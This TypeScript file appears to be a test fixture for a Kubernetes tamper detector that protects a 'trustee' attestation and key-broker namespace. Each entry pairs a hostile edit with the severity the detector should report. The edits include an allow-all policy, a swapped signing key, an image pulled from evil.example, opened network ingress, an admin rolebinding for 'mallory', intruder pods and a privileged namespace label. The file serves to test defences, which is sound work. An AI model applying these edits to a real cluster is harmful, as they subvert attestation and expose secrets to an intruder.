import type { Edit } from "./edit";
import { firstKey, manager, patch, pod, trustee, unbound } from "./edit";

export const ownerEdits: readonly Edit[] = [
  {
    what: "the resource policy opens",
    as: "trust",
    run: ({ replace }) =>
      replace("configmap", "trustee", "resource-policy", (object) => {
        object.data[firstKey(object)] = "package policy\ndefault allow := true\n";
      }),
    told: "critical ConfigMap resource-policy",
  },
  {
    what: "a reference value joins the others",
    as: "trust",
    run: ({ replace }) =>
      replace("configmap", "trustee", "reference-values", (object) => {
        object.data.snp_launch_measurement_2 = "{}";
      }),
    told: "critical ConfigMap reference-values",
  },
  {
    what: "the signer's key is another",
    as: "trust",
    run: ({ replace }) =>
      replace("secret", "trustee", "signer", (object) => {
        object.data["token.key"] = Buffer.from("mallory's own key").toString("base64");
      }),
    told: "critical Secret signer",
  },
  {
    what: "the key broker's image is another",
    as: "trust",
    run: async ({ run }) =>
      void (await run(
        "set",
        "image",
        ...trustee,
        ...manager,
        "deployment/trustee-kbs",
        `kbs=evil.example/kbs@sha256:${"0".repeat(64)}`,
      )),
    told: "critical Deployment trustee-kbs",
  },
  {
    what: "an attestation service's replicas",
    as: "trust",
    run: async ({ run }) =>
      void (await run(...patch("deployment", "trustee-as", { spec: { replicas: 1 } }, ...trustee))),
    told: "medium Deployment trustee-as",
  },
  {
    what: "a budget is gone",
    as: "trust",
    run: async ({ run }) => void (await run("delete", "poddisruptionbudget", "trustee-rvps", ...trustee)),
    told: "low PodDisruptionBudget trustee-rvps",
  },
  {
    what: "the network opens",
    as: "trust",
    run: async ({ run }) => {
      await run(...unbound("attestation-services-internal"));
      await run(...unbound("key-broker-clients-known"));
      await run(
        "patch",
        "networkpolicy",
        "as",
        ...trustee,
        ...manager,
        "--type=json",
        "-p",
        '[{"op":"add","path":"/spec/ingress/-","value":{"from":[{"namespaceSelector":{}}]}}]',
      );
    },
    told: "high NetworkPolicy as",
  },
  {
    what: "somebody may read Secrets",
    as: "trust",
    run: async ({ run }) =>
      void (await run("create", "rolebinding", "spy", ...trustee, "--clusterrole=admin", "--user=mallory")),
    told: "critical RoleBinding spy",
  },
  {
    what: "a pod beside the key broker",
    as: "trust",
    run: ({ create }) => create(pod("intruder", "trustee")),
    told: "critical Pod intruder",
  },
  {
    what: "a Deployment beside the key broker",
    as: "trust",
    run: ({ create }) => {
      const { spec } = pod("intruders", "trustee");
      const labels = { app: "intruders" };
      return create({
        apiVersion: "apps/v1",
        kind: "Deployment",
        metadata: { name: "intruders", namespace: "trustee" },
        spec: { replicas: 1, selector: { matchLabels: labels }, template: { metadata: { labels }, spec } },
      });
    },
    told: "critical Deployment intruders",
  },
  {
    what: "a rule is no longer bound",
    as: "trust",
    run: async ({ run }) => void (await run(...unbound("kbs-transport-tls"))),
    told: "high ValidatingAdmissionPolicyBinding trustfoundry-kbs-transport-tls",
  },
  {
    what: "pods of any kind are let in",
    as: "trust",
    run: async ({ run }) =>
      void (await run(
        "label",
        "namespace",
        "trustee",
        "pod-security.kubernetes.io/enforce=privileged",
        "--overwrite",
        ...manager,
      )),
    told: "high Namespace trustee",
  },
  {
    what: "the key broker's service leads elsewhere",
    as: "trust",
    run: async ({ run }) =>
      void (await run(...patch("service", "trustee-rvps", { spec: { selector: { app: "intruders" } } }, ...trustee))),
    told: "high Service trustee-rvps",
  },
];
